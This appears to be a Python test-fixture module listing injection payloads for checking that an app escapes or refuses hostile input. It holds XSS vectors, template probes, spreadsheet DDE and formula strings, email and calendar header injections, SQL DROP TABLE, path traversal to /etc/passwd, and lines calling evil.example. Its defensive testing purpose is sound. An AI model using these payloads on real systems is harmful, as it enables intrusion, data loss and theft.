"""Sixty texts that would do something where they are not taken for text. `xq` is the function that they try to call."""

HTML = (
    "<script>xq()</script>",
    '"><script>xq()</script>',
    "</title><script>xq()</script>",
    "</textarea><script>xq()</script>",
    "</style><script>xq()</script>",
    "--><script>xq()</script>",
    "]]><script>xq()</script>",
    "<ScRiPt>xq()</sCrIpT>",
    "<script/x>xq()</script>",
    "<img src=x onerror=xq()>",
    '"><img src=x onerror=xq()>',
    "' onmouseover='xq()' autofocus onfocus='xq()",
    '" autofocus onfocus="xq()',
    '" style="animation:x 1s" onanimationstart="xq()',
    "<svg onload=xq()>",
    "<svg><animate onbegin=xq() attributeName=x dur=1s>",
    "<svg><script>xq()</script></svg>",
    "<body onload=xq()>",
    "<details open ontoggle=xq()>",
    "<iframe srcdoc='<script>parent.xq()</script>'></iframe>",
    "<iframe src=javascript:parent.xq()></iframe>",
    "<object data='data:text/html,<script>xq()</script>'></object>",
    "<a href=javascript:xq()>x</a>",
    "<form action=javascript:xq()><button autofocus>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css'</style>",
    "<input autofocus onfocus=xq()>",
    "<math><mi//xlink:href='data:x,<script>xq()</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=xq()>'>",
    "<!--<img src='--><img src=x onerror=xq()>'>",
    "&lt;script&gt;xq()&lt;/script&gt;",
    "&#60;img src=x onerror=xq()&#62;",
    "\\u003cscript\\u003exq()\\u003c/script\\u003e",
    "</script><script>xq()</script>",
    '","x":"</script><img src=x onerror=xq()>',
    "javascript:xq()",
)
TEMPLATES = (
    "{{ 7 * 191 }}",
    "{% for x in (1,) %}1337{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "%(email)s %s %n {0} {email.__class__}",
)
SPREADSHEETS = (
    '=HYPERLINK("https://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    '","=1+1',
    "=cmd|'/C calc'!A0",
    "\uff1d1+1",
)
LINES = (
    "x END:VEVENT BEGIN:VEVENT ATTENDEE:mailto:evil@evil.example",
    "x;ATTENDEE=mailto:evil@evil.example:x,y\\n\\;z",
    "x\\nATTENDEE:mailto:evil@evil.example",
    '";X-INJECTED="x',
    "x%0d%0aBcc: evil@evil.example",
    "=?utf-8?q?x=0ABcc:_evil@evil.example?=",
)
OTHERS = (
    "'; DROP TABLE registrations; --",
    '{"$gt": ""}',
    "../../../../etc/passwd",
)
UNSEEN = (
    "x\u202efdp.exe",
    "x\u202a1\u202c",
    "x\u2066y\u2069",
    "x\ufff9y",
    "x\U000e0041",
)
"""Characters that turn the direction of writing, or that hide words where nobody sees them."""
PAYLOADS = (*HTML, *TEMPLATES, *SPREADSHEETS, *LINES, *OTHERS)
BROKEN_LINES = (
    "x\r\nBcc: evil@evil.example",
    "x\nATTENDEE:mailto:evil@evil.example",
    "x\rX-Injected: 1",
    "x\u2028Bcc: evil@evil.example",
    "x\x00y",
    "x\x1b[31m",
    *UNSEEN,
)
"""Refused at the door: a name or a title is one line."""
